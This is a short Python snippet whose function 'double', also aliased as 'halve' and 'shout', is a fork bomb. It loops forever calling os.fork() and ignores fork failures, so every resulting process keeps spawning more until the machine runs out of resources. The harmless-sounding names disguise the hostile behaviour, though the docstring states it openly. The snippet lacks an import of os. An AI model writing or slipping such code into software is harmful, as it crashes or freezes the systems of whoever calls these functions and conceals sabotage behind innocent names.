"""Forks without end, in every process that comes of it."""


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass


halve = shout = double
